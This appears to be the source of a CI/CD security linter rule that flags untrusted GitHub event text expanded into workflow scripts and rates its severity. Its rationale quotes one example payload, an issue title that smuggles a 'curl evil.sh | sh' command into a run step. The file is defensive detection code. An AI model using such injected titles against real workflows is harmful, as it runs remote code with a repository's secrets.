"""GHA007: outsider-controlled text expanded by ``${{ }}`` into a script."""

from __future__ import annotations

from collections.abc import Iterator

from ..api import Category, Check, Finding, Severity
from ..models.workflow import FORK_READ_ONLY_EVENTS, OutputTaint, Workflow, job_holds, untrusted_contexts
from ..models.workflow_expr import guard_for

CHECK = Check(
    code="GHA007",
    name="template-injection",
    title="Untrusted input expanded into a script",
    severity=Severity.HIGH,
    category=Category.CICD,
    rationale=(
        "`${{ }}` expressions are pasted into the script text before the shell sees it. "
        "An issue title, a PR body, a branch name or a commit message is written by whoever "
        "opens the issue or the fork, so a title like `\"; curl evil.sh | sh; #` becomes a "
        "command that runs with the job's token and secrets. Quoting does not help: the "
        "attacker controls the quotes too. The same text carried through a step output "
        "(`steps.X.outputs.Y` of a step that wrote a head branch name, a title or a body, from the "
        "event, from `gh api`/`gh pr view` or from a variable holding one) or a job output "
        "(`needs.J.outputs.O`) is followed, and so is a variable that holds it (`${{ env.X }}` of an `env:` "
        "or of a `$GITHUB_ENV` line an earlier step wrote). Once a privileged workflow (pull_request_target, "
        "workflow_run, issue_comment) checks out the pull request head, its files are the outsider's text "
        "too: a step output or `$GITHUB_ENV` variable written from `cat VERSION`, `$(< file)`, `jq ... "
        "package.json`, `yq`, a file-reading action, `git log --format` or `git diff --name-only` of the "
        "checkout carries it. Critical when an outsider starts the workflow "
        "(pull_request_target, issue_comment, issues, discussions, workflow_run) and the job holds "
        "`id-token: write` or a secret, unless its `if:` admits only this repository's branches, its "
        "members' or a bot's pull requests. Medium when only pull_request events (a fork's run "
        "gets a read-only token and no secrets), a schedule or a maintainer start the workflow: "
        "the pattern is the same, but what it runs gains nothing its author could not already do."
    ),
    remediation=(
        "Pass the value through an environment variable: `env: TITLE: ${{ github.event.issue.title }}`.",
        "Use it in the script as a quoted shell variable (`\"$TITLE\"`), never through `${{ }}`.",
        "In actions/github-script, read `context.payload` (or `process.env`) instead of interpolating.",
    ),
    effort="30m",
    references=(
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
    ),
    peers=("zizmor template-injection", "checkov CKV_GHA_2", "actionlint expression (untrusted input)"),
)


#: events that fill none of the outsider contexts: a schedule, a maintainer's dispatch
_NO_OUTSIDER_TEXT = frozenset(("schedule", "workflow_dispatch"))
#: events an outsider starts with text of theirs, in a run that has the base repository's secrets
_OUTSIDER_TEXT = frozenset(("pull_request_target", "issue_comment", "issues", "discussion",
                            "discussion_comment", "workflow_run"))


@CHECK.on(Workflow)
def template_injection(wf: Workflow) -> Iterator[Finding]:
    triggers = wf.triggers
    unprivileged = bool(triggers) and triggers <= FORK_READ_ONLY_EVENTS | _NO_OUTSIDER_TEXT
    severity = Severity.MEDIUM if unprivileged else Severity.HIGH
    why = (f"; the workflow runs only on {', '.join(sorted(triggers))}: a fork's pull request gets a read-only "
           "token and no secrets there" if unprivileged else "")
    outsider = sorted(triggers & _OUTSIDER_TEXT)
    taint = OutputTaint(wf)
    seen: set[int] = set()  # a step shared by several jobs through a YAML anchor is reported once
    for job in wf.jobs:
        job_severity, job_why = severity, why
        if outsider and not unprivileged:
            guard = guard_for(outsider, job.condition)
            held = job_holds(job)
            if held is not None and (guard is None or not guard.strong):
                job_severity = Severity.CRITICAL
                job_why = f"; an outsider starts the workflow ({', '.join(outsider)}) and the job holds {held}"
        for step in job.steps:
            if id(step.node) in seen:
                continue
            seen.add(id(step.node))
            targets = []
            if step.run is not None:
                targets.append((step.node, "run", step.run, "script"))
            action = step.action
            if action is not None and action.is_action("actions/github-script"):
                script = step.with_.get("script")
                if isinstance(script, str):
                    targets.append((step.with_, "script", script, "github-script"))
            for node, key, text, what in targets:
                found = untrusted_contexts(text)
                carried = taint.carried(text, job, step)
                if not found and not carried:
                    continue
                named = [{"github": "the whole github context", "github.event": "the whole event"}.get(c, c)
                         for c in found]
                named += [f"{c.ref} ({c.origin})" for c in carried]
                shown = ", ".join(named[:3]) + (" ..." if len(named) > 3 else "")
                refs = [*found, *(c.ref for c in carried)]
                yield CHECK.finding(
                    node, key, resource=step.resource, severity=job_severity,
                    message=f"{step.label} of {job.label} expands {shown} into its {what}{job_why}",
                    evidence="; ".join(f"${{{{ {c} }}}}" for c in refs[:3]),
                )
